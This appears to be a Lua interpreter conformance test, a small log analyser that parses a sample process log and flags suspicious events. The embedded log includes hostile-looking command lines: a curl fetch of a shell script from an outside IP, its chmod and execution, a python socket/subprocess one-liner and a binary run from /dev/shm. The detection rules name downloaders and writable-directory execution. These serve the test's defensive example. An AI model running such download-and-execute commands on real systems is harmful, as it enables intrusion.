-- A 200-line program in one chunk: a small log analyser that exercises
-- closures, metatables, string patterns, string.format and table.sort
-- together. Its output must be byte-identical under lua5.1 and kestrel-lua.

local LOG = [[
2026-11-25T22:01:07Z host=web-1 pid=4121 user=root exe=/usr/bin/curl args="-s http://203.0.113.9/x.sh"
2026-11-25T22:01:09Z host=web-1 pid=4122 user=root exe=/bin/sh args="-c chmod +x /tmp/x.sh"
2026-11-25T22:01:10Z host=web-1 pid=4123 user=root exe=/tmp/x.sh args=""
2026-11-25T22:02:44Z host=db-2 pid=77 user=postgres exe=/usr/lib/postgresql/bin/postgres args="-D /var/lib/pg"
2026-11-25T22:03:01Z host=db-2 pid=78 user=backup exe=/usr/bin/tar args="czf /backup/db.tgz /var/lib/pg"
2026-11-25T22:03:02Z host=web-1 pid=4124 user=www-data exe=/usr/bin/python3 args="-c import socket,subprocess"
2026-11-25T22:04:15Z host=ci-3 pid=9001 user=builder exe=/usr/bin/make args="-j2 all"
2026-11-25T22:04:16Z host=ci-3 pid=9002 user=builder exe=/usr/bin/cc args="-O2 -c vm.c"
malformed line without fields
2026-11-25T22:05:00Z host=web-1 pid=4125 user=root exe=/dev/shm/.x args="--daemon"
]]

-- A class with inheritance through __index, __tostring, __eq, __lt and
-- __concat.
local Event = {}
Event.__index = Event

function Event.new(fields)
  return setmetatable(fields, Event)
end

function Event:__tostring()
  return string.format("%s@%s[%d]", self.exe, self.host, self.pid)
end

function Event.__eq(a, b) return a.host == b.host and a.pid == b.pid end
function Event.__lt(a, b)
  if a.time ~= b.time then return a.time < b.time end
  return a.pid < b.pid
end
function Event.__concat(a, b) return tostring(a) .. " -> " .. tostring(b) end

function Event:dir()
  return self.exe:match("^(.*)/[^/]*$") or ""
end

local Suspicious = setmetatable({}, {__index = Event})
Suspicious.__index = Suspicious
Suspicious.__tostring = Event.__tostring
Suspicious.__lt = Event.__lt
Suspicious.__concat = Event.__concat

function Suspicious.new(ev, reason)
  ev.reason = reason
  return setmetatable(ev, Suspicious)
end

function Suspicious:describe()
  return string.format("%-28s %-10s %s", tostring(self), self.user, self.reason)
end

-- Parsing with patterns: key=value pairs and quoted values.
local function parse(line)
  local time, rest = line:match("^(%d+%-%d+%-%d+T[%d:]+Z)%s+(.*)$")
  if not time then
    return nil, "no timestamp"
  end
  local f = {time = time}
  for k, v in rest:gmatch('(%w+)=("[^"]*")') do
    f[k] = v:sub(2, -2)
  end
  for k, v in rest:gmatch('(%w+)=([^%s"]+)') do
    f[k] = f[k] or v
  end
  f.pid = tonumber(f.pid)
  return Event.new(f)
end

-- Closures: counters and a memoising wrapper.
local function counter()
  local n = 0
  return function(step)
    n = n + (step or 1)
    return n
  end
end

local function memoize(fn)
  local cache, calls = {}, counter()
  return function(x)
    local v = cache[x]
    if v == nil then
      calls()
      v = fn(x)
      cache[x] = v
    end
    return v
  end, function() return calls(0) end
end

local risky_dir, dir_calls = memoize(function(dir)
  return dir == "/tmp" or dir == "/dev/shm" or dir:find("^/var/tmp") ~= nil
end)

local rules = {
  {name = "exec from writable dir", test = function(e) return risky_dir(e:dir()) end},
  {name = "downloader", test = function(e) return e.exe:find("/curl$") or e.exe:find("/wget$") end},
  {name = "script interpreter -c", test = function(e)
    return (e.exe:match("/(%a+)%d*$") == "python" or e.exe:match("/sh$")) and e.args:find("^%-c ") ~= nil
  end},
}

local events, errors, bad = {}, {}, counter()
local lineno = 0
for line in LOG:gmatch("[^\n]+") do
  lineno = lineno + 1
  local ev, err = parse(line)
  if ev then
    events[#events + 1] = ev
  else
    bad()
    errors[#errors + 1] = string.format("line %d: %s (%q)", lineno, err, line:sub(1, 12))
  end
end

print(string.format("parsed %d events, %d bad line(s)", #events, bad(0)))
for _, e in ipairs(errors) do print("  " .. e) end

-- Detection with pcall around each rule, and an error object with
-- __tostring.
local ErrObj = {__tostring = function(e) return "RuleError(" .. e.rule .. ")" end}
local findings = {}
for _, ev in ipairs(events) do
  for _, rule in ipairs(rules) do
    local ok, hit = pcall(function()
      if ev.args == nil then
        error(setmetatable({rule = rule.name}, ErrObj))
      end
      return rule.test(ev)
    end)
    if not ok then
      print("error: " .. tostring(hit))
    elseif hit then
      findings[#findings + 1] = Suspicious.new(ev, rule.name)
      break
    end
  end
end

table.sort(findings, function(a, b) return b < a end) -- newest first
print(string.format("%d finding(s):", #findings))
for i, f in ipairs(findings) do
  print(string.format("%2d. %s", i, f:describe()))
end
print("memoised directory checks: " .. dir_calls())

-- Aggregation: events per host and user, sorted by count then name.
local per = {}
for _, ev in ipairs(events) do
  local key = ev.host .. "/" .. ev.user
  per[key] = (per[key] or 0) + 1
end
local keys = {}
for k in pairs(per) do keys[#keys + 1] = k end
table.sort(keys, function(a, b)
  if per[a] ~= per[b] then return per[a] > per[b] end
  return a < b
end)
for _, k in ipairs(keys) do
  print(string.format("%-16s %3d %s", k, per[k], string.rep("#", per[k])))
end

-- Metamethods between events, and a chain built with __concat.
local a, b = events[1], Event.new({host = "web-1", pid = 4121, exe = "/x", time = "z"})
print("same process:", a == b, rawequal(a, b), a < events[2])
print(events[1] .. events[2])

-- gsub with a function and a table replacement, and numbers in formats.
local masked = LOG:match("[^\n]+"):gsub("(%d+)%.(%d+)%.(%d+)%.(%d+)", function(p, q, r, s)
  return string.format("%s.%s.x.x", p, q)
end)
print(masked)
local template = "$user ran $exe on $host"
print((template:gsub("%$(%w+)", findings[1])))
local words, freq = {}, {}
for w in LOG:gmatch("%a%a%a+") do
  w = w:lower()
  if not freq[w] then words[#words + 1] = w end
  freq[w] = (freq[w] or 0) + 1
end
table.sort(words, function(x, y)
  if freq[x] ~= freq[y] then return freq[x] > freq[y] end
  return x < y
end)
local top = {}
for i = 1, 5 do top[i] = string.format("%s=%d", words[i], freq[words[i]]) end
print("top words: " .. table.concat(top, ", "))

-- Varargs and select, and numeric formatting.
local function stats(...)
  local n, sum, min, max = select("#", ...), 0, math.huge, -math.huge
  for i = 1, n do
    local v = select(i, ...)
    sum = sum + v
    if v < min then min = v end
    if v > max then max = v end
  end
  return n, sum / n, min, max
end
local pids = {}
for i, ev in ipairs(events) do pids[i] = ev.pid end
print(string.format("pids: n=%d mean=%.3f min=%d max=%d", stats(unpack(pids))))
print(string.format("%5.1f%% of events are findings; %e; %g; %x", 100 * #findings / #events, 1 / 3, 2 ^ 40, 255))
